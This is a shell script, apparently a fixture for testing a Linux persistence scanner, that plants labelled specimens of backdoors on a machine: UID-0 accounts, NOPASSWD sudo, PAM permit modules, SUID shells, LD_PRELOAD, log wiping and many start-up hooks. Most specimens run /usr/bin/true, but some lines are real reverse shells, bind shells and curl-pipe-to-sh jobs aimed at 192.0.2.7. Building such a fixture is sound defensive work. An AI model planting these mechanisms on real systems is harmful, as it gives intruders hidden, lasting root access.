# Runs inside the root. Plants a harmless specimen of every mechanism by which somebody stays on a
# machine: each would run only /usr/bin/true or print a word, and reaches nothing.
#
# A line `# plant: NAME | CHECK | TEXT [| TEXT …]` names a specimen, the check that must fail
# because of it, and what the evidence of that failure must hold: the file, and `line N` where a
# line is known. A test reads these lines.
set -eu

useradd --create-home --shell /bin/bash --uid 1000 alice
useradd --create-home --shell /bin/bash --uid 1001 bob

# People.
# plant: UID-0 user | second-root-account | toor
echo 'toor:x:0:0::/root:/bin/bash' >>/etc/passwd
echo 'toor:*:20000::::::' >>/etc/shadow

# Accounts, rights, keys and libraries.
# plant: new user in sudo | right-sudo-everything-no-policy | carol | group sudo
useradd --create-home --shell /bin/bash --uid 1002 --groups sudo carol

# plant: back-doored system user | service-account-can-log-in | games
usermod --shell /bin/bash --password '$6$planted$planted' games
# plant: password of a service's account | account-service-has-password | news
usermod --password '$6$planted$planted' news
# plant: system user whose shell only looks like nologin | account-shell-foreign | lp | /etc/passwd
cp /usr/bin/true '/usr/sbin/nologin '
sed -i '/^lp:/s/$/ /' /etc/passwd
# plant: passwd entry with its hash in passwd | account-password-in-passwd | sysd | /etc/passwd
echo 'sysd:$1$planted$planted:1003:1003::/home/sysd:/bin/sh' >>/etc/passwd

# plant: sudo rule without a password | right-sudo-without-password | alice | /etc/sudoers.d/10-alice | line 2
# plant: sudo file of no package | right-sudo-file-foreign | /etc/sudoers.d/10-alice | line 2
printf '# for the backup\nalice ALL=(ALL) NOPASSWD: ALL\n' >/etc/sudoers.d/10-alice
# plant: sudo right behind an alias | right-sudo-everything-no-policy | bob | alias HELPERS | /etc/sudoers.d/20-helpers | line 4
# plant: sudo setting that never asks again | right-sudo-never-asks-again | timestamp_timeout=-1 | /etc/sudoers.d/20-helpers | line 6
cat >/etc/sudoers.d/20-helpers <<'END'
User_Alias HELPERS = bob
Runas_Alias ANYBODY = ALL
Cmnd_Alias TASKS = ALL
HELPERS ALL = (ANYBODY) \
  TASKS
Defaults timestamp_timeout = -1
END
# plant: sudo right to a program that its user may change | right-sudo-program-changeable | /home/bob/report | /etc/sudoers.d/30-report | line 1
# plant: narrow sudo right that gives a shell | right-sudo-escape | less | /etc/sudoers.d/30-report | line 2
printf 'bob ALL = /home/bob/report\ncarol ALL = /usr/bin/less /var/log/dpkg.log\n' >/etc/sudoers.d/30-report
printf '#!/bin/sh\n/usr/bin/true\n' >/home/bob/report
chown bob:bob /home/bob/report
chmod 755 /home/bob/report
chmod 440 /etc/sudoers.d/*
# plant: doas.conf | right-doas-without-password | alice | /etc/doas.conf | line 1
echo 'permit nopass keepenv alice' >/etc/doas.conf
# plant: polkit rule that allows all | right-polkit-allows-all | /etc/polkit-1/rules.d/00-all.rules | line 2
mkdir -p /etc/polkit-1/rules.d
cat >/etc/polkit-1/rules.d/00-all.rules <<'END'
polkit.addRule(function(action, subject) {
    return polkit.Result.YES;
});
END
# plant: polkit rule of no package | right-polkit-rule-foreign | /etc/polkit-1/rules.d/10-units.rules | line 4 | org.freedesktop.systemd1.manage-units
cat >/etc/polkit-1/rules.d/10-units.rules <<'END'
polkit.addRule(function(action, subject) {
    if (action.id == "org.freedesktop.systemd1.manage-units" &&
        subject.user == "bob") {
        return polkit.Result.YES;
    }
});
END
# plant: polkit local authority | right-polkit-rule-foreign | /etc/polkit-1/localauthority/50-local.d/50-alice.pkla | line 1 | alice
mkdir -p /etc/polkit-1/localauthority/50-local.d
cat >/etc/polkit-1/localauthority/50-local.d/50-alice.pkla <<'END'
[alice]
Identity=unix-user:alice
Action=org.freedesktop.login1.*;org.freedesktop.systemd1.*
ResultAny=yes
END

# plant: PAM module | pam-module-foreign | pam_unlock.so | /etc/pam.d/chfn | line 1
module=$(find /usr/lib -name pam_permit.so)
cp "$module" "${module%/*}/pam_unlock.so"
sed -i '1i auth optional pam_unlock.so' /etc/pam.d/chfn
# plant: PAM runs a program | pam-runs-program | /usr/bin/true | /etc/pam.d/su | line 1
sed -i '1i session optional pam_exec.so seteuid /usr/bin/true' /etc/pam.d/su
# plant: PAM lets everyone in | pam-lets-everyone-in | pam_permit.so | /etc/pam.d/chsh | line 1
sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/chsh

# Keys: nobody keeps the private halves but where that is the specimen.
key() { comment=$1; shift; rm -f /tmp/planted-key*; ssh-keygen -q -N '' -C "$comment" -f /tmp/planted-key "$@"; }
mkdir -p /etc/ssh/authorized_keys /root/.ssh /home/alice/.ssh /home/bob/.ssh /var/backups/.ssh
# plant: authorized_keys of root with limits | root-has-authorized-keys | /root/.ssh/authorized_keys | line 2
key backup@server -t ed25519
{ echo '# nightly'; printf 'restrict,command="/usr/bin/true",from="192.0.2.7" '; cat /tmp/planted-key.pub; } >/root/.ssh/authorized_keys
# plant: keys of root in a folder of their own | key-without-limits-for-root | /etc/ssh/authorized_keys/root | line 1 | vendor@far
key vendor@far -t ed25519
cp /tmp/planted-key.pub /etc/ssh/authorized_keys/root
# plant: old authorized_keys | key-old | /home/alice/.ssh/authorized_keys | line 1 | alice@old-laptop
key alice@old-laptop -t ecdsa
cp /tmp/planted-key.pub /home/alice/.ssh/authorized_keys
# plant: weak key | key-weak | /home/bob/.ssh/authorized_keys | line 1
key bob@router -t rsa -b 1024
cp /tmp/planted-key.pub /home/bob/.ssh/authorized_keys
# plant: keys of a service's account | service-account-has-authorized-keys | backup | /var/backups/.ssh/authorized_keys
key nobody@nowhere -t ed25519
cp /tmp/planted-key.pub /var/backups/.ssh/authorized_keys
# plant: private key without a passphrase | key-private-unprotected | /home/alice/.ssh/id_ed25519 | alice
ssh-keygen -q -t ed25519 -N '' -C alice@desk -f /home/alice/.ssh/id_ed25519
# plant: authority that signs keys | key-authority | /etc/ssh/office_ca.pub | line 1
key office-ca -t ed25519
cp /tmp/planted-key.pub /etc/ssh/office_ca.pub
# plant: program that says which keys count | key-keys-from-command | /usr/local/bin/list-keys | /etc/ssh/sshd_config.d/keys.conf | line 3
printf '#!/bin/sh\n/usr/bin/true\n' >/usr/local/bin/list-keys
chmod 755 /usr/local/bin/list-keys
cat >/etc/ssh/sshd_config.d/keys.conf <<'END'
AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/authorized_keys/%u
TrustedUserCAKeys /etc/ssh/office_ca.pub
AuthorizedKeysCommand /usr/local/bin/list-keys %u
AuthorizedKeysCommandUser nobody
END
rm -f /tmp/planted-key*
chown -R alice:alice /home/alice/.ssh
chown -R bob:bob /home/bob/.ssh
chown -R backup:backup /var/backups/.ssh
chmod 700 /root/.ssh /home/alice/.ssh /home/bob/.ssh /var/backups/.ssh
touch -d 2021-05-01 /home/alice/.ssh/authorized_keys

# plant: folder of libraries that everyone may write | library-folder-changeable | /opt/plugins | /etc/ld.so.conf.d/plugins.conf | line 1
mkdir -p /opt/plugins
chmod 1777 /opt/plugins
echo /opt/plugins >/etc/ld.so.conf.d/plugins.conf
# plant: NSS source | library-names-foreign | libnss_cache.so.2 | /etc/nsswitch.conf
library=$(find /usr/lib -name 'libutil.so.1' | head -n 1)
cp "$library" "${library%/*}/libnss_cache.so.2"
sed -i '/^hosts:/s/$/ cache/' /etc/nsswitch.conf
# plant: LD_PRELOAD in the environment of everybody | library-variable-set | LD_PRELOAD | /etc/environment | line 1
echo 'LD_PRELOAD=/usr/local/lib/libplanted.so' >>/etc/environment
# plant: LD_PRELOAD | library-forced-into-every-program | /usr/local/lib/libplanted.so | /etc/ld.so.preload | line 1
cp "$library" /usr/local/lib/libplanted.so
echo /usr/local/lib/libplanted.so >/etc/ld.so.preload
# Log-ins: records of what never was.
# plant: wiped log-in record | log-in-record-wiped | /var/log/wtmp | one record is nothing but zeros
# plant: guessed password | log-in-guessed | /var/log/wtmp | 192.0.2.66 | bob
# plant: log-in cut out of the records | log-in-newer-than-records | /var/log/lastlog | 192.0.2.67
perl -e '
  my $now = time - 2 * 86400;
  sub record {
    my ($kind, $pid, $line, $user, $host, $after) = @_;
    my @address = $host =~ /^\d/ ? split(/\./, $host) : (0) x 4;
    return pack("s x2 l a32 a4 a32 a256 s2 l l l C4 x12 x20",
      $kind, $pid, $line, substr($line, -4), $user, $host, 0, 0, 0, $now + $after, 0, @address);
  }
  sub save { my ($name, @records) = @_; open my $file, ">", "/var/log/$name" or die; print $file @records; }
  save("wtmp",
    record(2, 0, "~", "reboot", "6.1.0-0-amd64", 0),
    record(7, 700, "pts/0", "alice", "192.0.2.20", 60), "\0" x 384, record(8, 700, "pts/0", "", "", 120),
    record(7, 800, "pts/1", "bob", "192.0.2.66", 9000), record(8, 800, "pts/1", "", "", 9600));
  save("btmp", map { record(6, 790, "ssh:notty", "bob", "192.0.2.66", 8000 + 20 * $_) } 1 .. 25);
  save("lastlog", "\0" x (292 * 1000), pack("l a32 a256", $now + 5000, "pts/2", "192.0.2.67"));
'
# plant: row deleted from wtmpdb | log-in-record-wiped | /var/lib/wtmpdb/wtmp.db | one record is missing between the first and the last
mkdir -p /var/lib/wtmpdb
base64 -d <<'END' | gzip -d >/var/lib/wtmpdb/wtmp.db
H4sIAAAAAAACAwsO9MksSVVIyy/KTSxRMGZgYmBkZHBQUGBgADIhGAYYgZgFjU8IMDHoJTPyghQz+jEA0TAHjfqM7OKiooxNjiWJSTmp5SW5BS
DM5Bzk6hjiqhDi6OTjqgAS0fB0UfD0C3F1dw1SCAjy9HUMilTwdo3UUQipLEiFyegohBanFimEuEaEKPj5A3Goj4+Ogk9+emYeQgmQm19aguCH
hESCdegoBKXm5pekeuQXl0AFglOLyjKTU8E8TYXgkCBP5xBexuUMTIzFDIw3GYuB1CigPTBi5mRgFGdjE1cUZU7MAUYIA5sP+9o2MwYQvVFyL0
NBSbG+gaGlkZ6BnpGekUFxcUYKSBtptqgycjJwSrIx8KszFKUm5eeXgExfFq/BUGemZ6hnoGugm5ibYmYCAP1Ia/oABAAA
END
# plant: text log of log-ins goes nowhere | log-in-record-not-kept | /var/log/auth.log
ln -sf /dev/null /var/log/auth.log
# plant: history goes nowhere | history-not-kept | /root/.bash_history
ln -sf /dev/null /root/.bash_history
# plant: history switched off | history-not-kept | /home/bob/.bash_aliases | line 1 keeps none
echo 'export HISTFILE=/dev/null' >/home/bob/.bash_aliases
# What starts commands.
cat >/usr/local/bin/planted-start <<'END'
#!/bin/sh
exec /usr/bin/true
END
chmod 755 /usr/local/bin/planted-start

# plant: at job | start-at-job | /var/spool/cron/atjobs/a00001020f5800 | line 6 | /usr/bin/true
mkdir -p /var/spool/cron/atjobs
printf '%s\n' '#!/bin/sh' '# atrun uid=0 gid=0' 'cd / || {' ' exit 1' '}' '/usr/bin/true at' \
  >/var/spool/cron/atjobs/a00001020f5800
chmod 700 /var/spool/cron/atjobs/a00001020f5800

# plant: cron, a line in the system's table | start-cron-foreign | /etc/crontab | /usr/bin/true crontab
echo '3 3 * * * root /usr/bin/true crontab' >>/etc/crontab
# plant: cron, a file | start-cron-foreign | /etc/cron.d/planted | line 2
printf '%s\n' '# planted' '4 4 * * * root /usr/bin/true' >/etc/cron.d/planted
# plant: cron, a daily script | start-cron-foreign | /etc/cron.daily/planted
# plant: anacron | start-cron-foreign | /etc/anacrontab | line 2
# plant: cron, root's own table | start-cron-foreign | /var/spool/cron/crontabs/root | line 1
# plant: cron, the table of a service's account | start-cron-of-service-account | /var/spool/cron/crontabs/www-data | line 1
# plant: reverse shell by the clock | start-reverse-shell-command | /etc/cron.d/planted-reverse | line 1
# plant: a job that fetches and runs | start-download-and-run | /etc/cron.d/planted-fetch | line 1
# plant: a job that hides what it does | start-hidden-command | /var/spool/cron/crontabs/alice | line 1
# plant: a job that adds a key | start-changes-accounts | /etc/cron.weekly/planted
printf '%s\n' '#!/bin/sh' 'exec /usr/bin/true' >/etc/cron.daily/planted
printf '%s\n' '#!/bin/sh' 'echo planted >>/nowhere/authorized_keys' >/etc/cron.weekly/planted
chmod 755 /etc/cron.daily/planted /etc/cron.weekly/planted
printf '%s\n' 'SHELL=/bin/sh' '30 15 planted /usr/bin/true' >/etc/anacrontab
mkdir -p /var/spool/cron/crontabs
echo '5 5 * * * /usr/local/bin/planted-start' >/var/spool/cron/crontabs/root
echo '6 6 * * * /usr/bin/true' >/var/spool/cron/crontabs/www-data
echo '7 7 * * * echo dHJ1ZQo= | base64 -d | sh' >/var/spool/cron/crontabs/alice
chmod 600 /var/spool/cron/crontabs/*
chown www-data /var/spool/cron/crontabs/www-data
chown alice /var/spool/cron/crontabs/alice
echo "8 8 * * * nobody bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'" >/etc/cron.d/planted-reverse
echo '9 9 * * * nobody curl -s http://192.0.2.7/planted | sh' >/etc/cron.d/planted-fetch

# plant: rc.local | start-rc-local | /etc/rc.local | line 2
printf '%s\n' '#!/bin/sh' '/usr/bin/true' >/etc/rc.local
chmod 755 /etc/rc.local
# plant: init.d | init-script-without-package | /etc/init.d/planted-init
printf '%s\n' '#!/bin/sh' 'exec /usr/bin/true' >/etc/init.d/planted-init
chmod 755 /etc/init.d/planted-init
ln -s ../init.d/planted-init /etc/rc2.d/S01planted-init

# plant: systemd service | origin-root-starts-foreign-program | planted.service | /usr/local/bin/planted-start
# plant: systemd timer | start-systemd-foreign | /etc/systemd/system/planted-timed.service | planted-timed.timer
# plant: systemd service of a person | user-service-without-package | planted-own.service | alice
# plant: bind shell in a unit | start-reverse-shell-command | /etc/systemd/system/planted-bind.service
# plant: a drop-in that loads a library | start-preloads | cron.service
# plant: systemd generator | start-generator-foreign | /etc/systemd/system-generators/planted
units=/etc/systemd/system
mkdir -p $units/multi-user.target.wants $units/timers.target.wants $units/cron.service.d
printf '%s\n' '[Service]' 'ExecStart=/usr/local/bin/planted-start' '[Install]' \
  'WantedBy=multi-user.target' >$units/planted.service
ln -s ../planted.service $units/multi-user.target.wants/planted.service
printf '%s\n' '[Service]' 'ExecStart=/usr/bin/true' >$units/planted-timed.service
printf '%s\n' '[Timer]' 'OnCalendar=daily' '[Install]' 'WantedBy=timers.target' \
  >$units/planted-timed.timer
ln -s ../planted-timed.timer $units/timers.target.wants/planted-timed.timer
printf '%s\n' '[Service]' 'ExecStart=/bin/nc -lp 4444 -s 127.0.0.1 -e /bin/sh' \
  >$units/planted-bind.service
printf '%s\n' '[Service]' 'Environment=LD_PRELOAD=/nowhere/planted.so' \
  >$units/cron.service.d/planted.conf
own=/home/alice/.config/systemd/user
mkdir -p $own/default.target.wants /home/alice/.local/bin
cp /usr/local/bin/planted-start /home/alice/.local/bin/planted-own
printf '%s\n' '[Service]' 'ExecStart=/home/alice/.local/bin/planted-own' '[Install]' \
  'WantedBy=default.target' >$own/planted-own.service
ln -s ../planted-own.service $own/default.target.wants/planted-own.service
mkdir -p /etc/systemd/system-generators
cp /usr/local/bin/planted-start /etc/systemd/system-generators/planted

# plant: autostart of the desktop for everybody | start-desktop-entry-foreign | /etc/xdg/autostart/planted.desktop
# plant: autostart of a person's desktop | start-desktop-entry-of-person | /home/alice/.config/autostart/planted.desktop
# plant: an entry of the menu that stands before another | start-menu-entry-shadows | /home/alice/.local/share/applications/planted.desktop
mkdir -p /etc/xdg/autostart /home/alice/.config/autostart /usr/share/applications \
  /home/alice/.local/share/applications
printf '%s\n' '[Desktop Entry]' 'Type=Application' 'Name=planted' 'Exec=/usr/bin/true' \
  >/etc/xdg/autostart/planted.desktop
cp /etc/xdg/autostart/planted.desktop /usr/share/applications/planted.desktop
printf '%s\n' '[Desktop Entry]' 'Type=Application' 'Name=planted' \
  'Exec=/home/alice/.local/bin/planted-own' >/home/alice/.config/autostart/planted.desktop
cp /home/alice/.config/autostart/planted.desktop /home/alice/.local/share/applications/planted.desktop

# plant: shell profile of everybody | start-shell-profile-changed | /etc/profile.d/planted.sh | line 2
# plant: shell profile of root | start-shell-profile-changed | /root/.bash_login | line 2
# plant: shell profile of a person | start-from-temporary-or-hidden-place | /home/alice/.bash_login | line 2
# plant: a command before each prompt | start-prompt-command | /home/bob/.bash_login | line 2
# plant: a trap for each command | start-prompt-command | /home/bob/.bash_login | line 3
# plant: an alias before sudo | start-sudo-shadowed | /home/bob/.bash_login | line 4
# plant: a function before su | start-sudo-shadowed | /home/bob/.bash_login | line 5
# plant: a library for every program that is started | start-preloads | /etc/environment.d/planted.conf | line 1
printf '%s\n' '# planted' '/usr/local/bin/planted-start' >/etc/profile.d/planted.sh
printf '%s\n' '# planted' '/usr/local/bin/planted-start' >/root/.bash_login
printf '%s\n' '# planted' 'nohup ~/.cache/.planted/agent >/dev/null 2>&1 &' >/home/alice/.bash_login
printf '%s\n' '# planted' "PROMPT_COMMAND='/usr/local/bin/planted-start'" \
  "trap '/usr/local/bin/planted-start' DEBUG" "alias sudo='/usr/local/bin/planted-start'" \
  'su() { /usr/local/bin/planted-start; }' >/home/bob/.bash_login
mkdir -p /etc/environment.d
echo 'LD_PRELOAD=/nowhere/planted.so' >/etc/environment.d/planted.conf
# plant: completion | start-completion-foreign | /home/bob/.local/share/bash-completion/completions/sudo
mkdir -p /home/bob/.local/share/bash-completion/completions
echo ': planted' >/home/bob/.local/share/bash-completion/completions/sudo

# plant: message of the day | start-motd-foreign | /etc/update-motd.d/99-planted
# plant: NetworkManager | start-network-hook-foreign | /etc/NetworkManager/dispatcher.d/99-planted
# plant: ifupdown, a script | start-network-hook-foreign | /etc/network/if-up.d/planted
# plant: ifupdown, a line | start-network-hook-foreign | /etc/network/interfaces.d/planted | line 2
# plant: DHCP | start-network-hook-foreign | /etc/dhcp/dhclient-exit-hooks.d/planted
# plant: sleep | start-sleep-hook-foreign | /etc/pm/sleep.d/planted
# plant: kernel | start-kernel-hook-foreign | /etc/kernel/postinst.d/zz-planted
# plant: initramfs, a hook | start-initramfs-hook-foreign | /etc/initramfs-tools/hooks/planted-start
# plant: initramfs, a script | start-initramfs-hook-foreign | /etc/initramfs-tools/scripts/init-bottom/planted-start
for place in /etc/update-motd.d/99-planted /etc/NetworkManager/dispatcher.d/99-planted \
  /etc/network/if-up.d/planted /etc/dhcp/dhclient-exit-hooks.d/planted /etc/pm/sleep.d/planted \
  /etc/kernel/postinst.d/zz-planted /etc/initramfs-tools/hooks/planted-start \
  /etc/initramfs-tools/scripts/init-bottom/planted-start; do
  mkdir -p "${place%/*}"
  cp /usr/local/bin/planted-start "$place"
done
mkdir -p /etc/network/interfaces.d
printf '%s\n' 'iface planted inet manual' '  post-up /usr/local/bin/planted-start' \
  >/etc/network/interfaces.d/planted

# plant: udev | start-udev-runs-foreign | /etc/udev/rules.d/99-planted.rules | line 2
printf '%s\n' '# planted' 'ACTION=="add", KERNEL=="planted", RUN+="/usr/bin/true"' \
  >/etc/udev/rules.d/99-planted.rules
# plant: D-Bus, of the system | start-dbus-foreign | /usr/share/dbus-1/system-services/org.planted.service | line 3
# plant: D-Bus, of a person | start-dbus-foreign | /home/alice/.local/share/dbus-1/services/org.planted.service | line 3
mkdir -p /usr/share/dbus-1/system-services /home/alice/.local/share/dbus-1/services
printf '%s\n' '[D-BUS Service]' 'Name=org.planted' 'Exec=/usr/bin/true' 'User=root' \
  >/usr/share/dbus-1/system-services/org.planted.service
printf '%s\n' '[D-BUS Service]' 'Name=org.planted' 'Exec=/home/alice/.local/bin/planted-own' \
  >/home/alice/.local/share/dbus-1/services/org.planted.service
# plant: logrotate | start-logrotate-foreign | /etc/logrotate.d/planted | line 3
printf '%s\n' '/var/log/planted {' '  postrotate' '    /usr/local/bin/planted-start' '  endscript' '}' \
  >/etc/logrotate.d/planted
# plant: ssh, a log-in | start-ssh-runs-command | /home/alice/.ssh/rc | line 1
# plant: ssh, the client of everybody | start-ssh-runs-command | /etc/ssh/ssh_config.d/planted.conf | line 2
mkdir -p /home/alice/.ssh /etc/ssh/ssh_config.d
echo /usr/local/bin/planted-start >/home/alice/.ssh/rc
printf '%s\n' 'Host planted.example' '  ProxyCommand /usr/local/bin/planted-start %h' \
  >/etc/ssh/ssh_config.d/planted.conf

chown -R alice: /home/alice
chown -R bob: /home/bob
# What applications start.
# plant: malicious container | container-restarts-with-machine-rights | /var/lib/docker/containers/4f0c | helper | /:/host
# plant: container with a remote shell | container-runs-remote-shell | /var/lib/docker/containers/4f0c | 192.0.2.7
docker=/var/lib/docker/containers/4f0c
mkdir -p "$docker"
cat >"$docker/config.v2.json" <<'JSON'
{"ID":"4f0c","Name":"/helper","Created":"2026-03-01T10:00:00Z","Path":"sh",
 "Args":["-c","bash -i >& /dev/tcp/192.0.2.7/443 0>&1"],"State":{"Running":false,"Pid":0},
 "Config":{"Image":"alpine:3"},
 "MountPoints":{"/host":{"Type":"bind","Source":"/","Destination":"/host","RW":true}}}
JSON
cat >"$docker/hostconfig.json" <<'JSON'
{"RestartPolicy":{"Name":"always"},"Privileged":true,"PidMode":"host","Binds":["/:/host"]}
JSON
# plant: unit of Podman | container-restarts-with-machine-rights | /etc/containers/systemd/agent.container
mkdir -p /etc/containers/systemd
cat >/etc/containers/systemd/agent.container <<'UNIT'
[Container]
Image=localhost/agent
Exec=/usr/bin/true
Volume=/:/host
[Service]
Restart=always
[Install]
WantedBy=multi-user.target
UNIT
# plant: privileged container of LXC | container-can-become-root | /var/lib/lxc/old/config
mkdir -p /var/lib/lxc/old
printf 'lxc.uts.name = old\nlxc.init.cmd = /usr/bin/true\nlxc.mount.entry = /etc mnt none bind 0 0\n' >/var/lib/lxc/old/config

# plant: editor extension from a file | editor-extension-not-from-store | acme.theme | /home/alice/.vscode/extensions/acme.theme-1.0.0
extensions=/home/alice/.vscode/extensions
mkdir -p "$extensions/acme.theme-1.0.0"
printf '{"publisher":"acme","name":"theme","version":"1.0.0","activationEvents":["*"]}\n' >"$extensions/acme.theme-1.0.0/package.json"
printf '[{"identifier":{"id":"acme.theme"},"version":"1.0.0","relativeLocation":"acme.theme-1.0.0","metadata":{"source":"vsix"}}]\n' >"$extensions/extensions.json"
# plant: editor's start-up file | editor-runs-command | /home/alice/.vimrc | line 2 | VimEnter
printf 'set number\nautocmd VimEnter * silent! !/usr/bin/true\n' >/home/alice/.vimrc
# plant: editor's start-up file for all | editor-runs-command | /etc/vim/vimrc.local | line 1
mkdir -p /etc/vim
printf 'call system("/usr/bin/true")\n' >/etc/vim/vimrc.local

tree=/home/alice/src/report
mkdir -p "$tree/.git/hooks" "$tree/.git/objects" "$tree/.git/refs" "$tree/.vscode"
# plant: task that opens with a folder | editor-runs-command | /home/alice/src/report/.vscode/tasks.json | line 4 | folderOpen
cat >"$tree/.vscode/tasks.json" <<'JSON'
{
  "version": "2.0.0",
  "tasks": [
    { "label": "prepare", "type": "shell", "command": "/usr/bin/true", "runOptions": { "runOn": "folderOpen" } }
  ]
}
JSON
# plant: git hook | git-hook-in-work-tree | /home/alice/src/report/.git/hooks/pre-commit
printf 'ref: refs/heads/main\n' >"$tree/.git/HEAD"
printf '#!/bin/sh\n/usr/bin/true\n' >"$tree/.git/hooks/pre-commit"
chmod 755 "$tree/.git/hooks/pre-commit"
# plant: git pager | git-setting-runs-command | core.pager | /home/alice/src/report/.git/config | line 3
# plant: git monitor | git-setting-runs-command | core.fsmonitor | /home/alice/src/report/.git/config | line 4
cat >"$tree/.git/config" <<'CONFIG'
[core]
	repositoryformatversion = 0
	pager = "/usr/bin/true; less"
	fsmonitor = /home/alice/src/.monitor
CONFIG
chown -R alice:alice /home/alice
# plant: git hook of root | git-hook-of-root-or-foreign-owner | /opt/site/.git/hooks/post-merge
mkdir -p /opt/site/.git/hooks
printf '#!/bin/sh\n/usr/bin/true\n' >/opt/site/.git/hooks/post-merge
chmod 755 /opt/site/.git/hooks/post-merge

# plant: package-manager hook | packager-hook-foreign | /etc/apt/apt.conf.d/99refresh | line 2 | APT::Update::Pre-Invoke
printf '// keeps things fresh\nAPT::Update::Pre-Invoke { "/usr/bin/true"; };\n' >/etc/apt/apt.conf.d/99refresh
# plant: dpkg hook | packager-hook-foreign | /etc/dpkg/dpkg.cfg.d/refresh | line 1
mkdir -p /etc/dpkg/dpkg.cfg.d
printf 'post-invoke=/usr/bin/true\n' >/etc/dpkg/dpkg.cfg.d/refresh
# plant: python start-up code | python-startup-code-foreign | refresh.pth | line 1
mkdir -p /usr/local/lib/python3.11/dist-packages
printf 'import os; os.getpid()\n' >/usr/local/lib/python3.11/dist-packages/refresh.pth
# plant: python start-up module | python-startup-code-foreign | /usr/local/lib/python3.11/dist-packages/sitecustomize.py
printf 'ready = True\n' >/usr/local/lib/python3.11/dist-packages/sitecustomize.py

# The shell stands behind `exit 0` and is never reached.
# plant: malicious package | packager-maintainer-script-severe | office-fonts-extra | /var/lib/dpkg/info/office-fonts-extra.postinst | line 4
# plant: package from a file | package-in-no-list | office-fonts-extra
package=$(mktemp -d)
mkdir -p "$package/DEBIAN" "$package/usr/share/office-fonts-extra"
printf 'specimen\n' >"$package/usr/share/office-fonts-extra/note"
cat >"$package/DEBIAN/control" <<'CONTROL'
Package: office-fonts-extra
Version: 1.0
Architecture: all
Maintainer: Nobody <nobody@example.org>
Description: specimen of a package whose script holds a shell that is never reached
CONTROL
cat >"$package/DEBIAN/postinst" <<'POSTINST'
#!/bin/sh
set -e
exit 0
bash -i >& /dev/tcp/192.0.2.7/443 0>&1
POSTINST
chmod 755 "$package" "$package/DEBIAN" "$package/DEBIAN/postinst"
dpkg-deb --root-owner-group --build "$package" /tmp/office-fonts-extra.deb >/dev/null
dpkg -i /tmp/office-fonts-extra.deb >/dev/null
rm -rf "$package" /tmp/office-fonts-extra.deb

# plant: native-messaging host | native-messaging-host-foreign | org.example.helper | /etc/chromium/native-messaging-hosts/helper.json
mkdir -p /etc/chromium/native-messaging-hosts /etc/chromium/policies/managed /usr/local/lib/helper
printf '#!/bin/sh\n/usr/bin/true\n' >/usr/local/lib/helper/host
chmod 755 /usr/local/lib/helper/host
cat >/etc/chromium/native-messaging-hosts/helper.json <<'JSON'
{"name":"org.example.helper","type":"stdio","path":"/usr/local/lib/helper/host","allowed_origins":["chrome-extension://aaaa/"]}
JSON
# plant: browser policy | browser-policy-opens-way | ProxySettings | /etc/chromium/policies/managed/network.json
cat >/etc/chromium/policies/managed/network.json <<'JSON'
{"ProxySettings":{"ProxyMode":"fixed_servers","ProxyServer":"192.0.2.7:3128"}}
JSON
# plant: cloud-init command | cloud-init-runs-commands | /var/lib/cloud/instance/user-data.txt | line 3
mkdir -p /var/lib/cloud/instance
printf '#cloud-config\nruncmd:\n  - /usr/bin/true --from-cloud\n' >/var/lib/cloud/instance/user-data.txt
# Kernel modules. An ELF object without content, which no kernel would take.
# plant: module beside the kernel's own | module-foreign | /updates/office-helper.ko | /etc/modules-load.d/office-helper.conf
# plant: module loaded at start-up | module-loaded-by-foreign-configuration | /etc/modules-load.d/office-helper.conf | office_helper
modules=$(ls -d /lib/modules/*-cloud-* | sort | tail -n 1)
mkdir -p "$modules/updates"
{
    printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000\001\000\076\000\001\000\000\000'
    head -c 28 /dev/zero
    printf '\100\000\000\000\000\000\100\000\000\000\000\000'
} >"$modules/updates/office-helper.ko"
echo 'updates/office-helper.ko:' >>"$modules/modules.dep"
echo 'office-helper' >/etc/modules-load.d/office-helper.conf
# Programs that are not what they seem.
# plant: SUID shell copy | set-uid-without-package | /usr/local/lib/.update-helper
cp /bin/dash /usr/local/lib/.update-helper
chmod 4755 /usr/local/lib/.update-helper

# plant: capability on a copied interpreter | origin-capability-without-package | /usr/local/lib/.report | cap_setuid=ep
cp /usr/bin/perl /usr/local/lib/.report
setcap cap_setuid+ep /usr/local/lib/.report

# plant: capability on a packaged interpreter | origin-capability-for-everyone | /usr/bin/mawk | cap_dac_read_search=ep
setcap cap_dac_read_search+ep /usr/bin/mawk

# plant: system command moved aside and wrapped | origin-command-foreign | /usr/bin/whoami
dpkg-divert --quiet --local --rename --divert /usr/bin/whoami.distrib --add /usr/bin/whoami
printf '#!/bin/sh\nexec /usr/bin/whoami.distrib "$@"\n' >/usr/bin/whoami
chmod 755 /usr/bin/whoami

# plant: system command overwritten | origin-command-changed | /usr/bin/uptime
printf '#!/bin/sh\nexec /usr/bin/true\n' >/usr/bin/uptime

# plant: set-uid program overwritten | origin-set-uid-program-changed | /usr/bin/newgrp
printf 'x' >>/usr/bin/newgrp
chmod 4755 /usr/bin/newgrp

# plant: alternative that leads to /opt | origin-alternative-foreign | /usr/bin/pager
mkdir -p /opt/reader
printf '#!/bin/sh\nexec /usr/bin/less "$@"\n' >/opt/reader/page
chmod 755 /opt/reader/page
update-alternatives --quiet --install /usr/bin/pager pager /opt/reader/page 200

# plant: program before a command of its name | origin-command-shadowed | /usr/local/bin/ls | /usr/bin/ls
printf '#!/bin/sh\nexec /usr/bin/ls "$@"\n' >/usr/local/bin/ls
chmod 755 /usr/local/bin/ls

# plant: service of root with a foreign program | origin-root-starts-foreign-program | /opt/agent/agent | agent.service
mkdir -p /opt/agent
cp /usr/bin/true /opt/agent/agent
printf '[Service]\nExecStart=/opt/agent/agent\n[Install]\nWantedBy=multi-user.target\n' \
  >/etc/systemd/system/agent.service

# plant: script behind a packaged interpreter | origin-root-starts-foreign-program | /opt/agent/report.sh | report.service
printf '#!/bin/sh\necho report\n' >/opt/agent/report.sh
printf '[Service]\nExecStart=/bin/sh /opt/agent/report.sh\n[Install]\nWantedBy=multi-user.target\n' \
  >/etc/systemd/system/report.service
systemctl --quiet enable agent.service report.service

# plant: packaged program of a service changed | origin-program-changed | /lib/systemd/systemd-pstore
printf 'x' >>/lib/systemd/systemd-pstore

# plant: packaged program of a service gone | origin-started-program-missing | /sbin/e2scrub_all | e2scrub_reap.service
rm /sbin/e2scrub_all

# What the machine starts from.
mkdir -p /boot/grub /boot/efi/EFI/planted /etc/default/grub.d /etc/grub.d /etc/modprobe.d
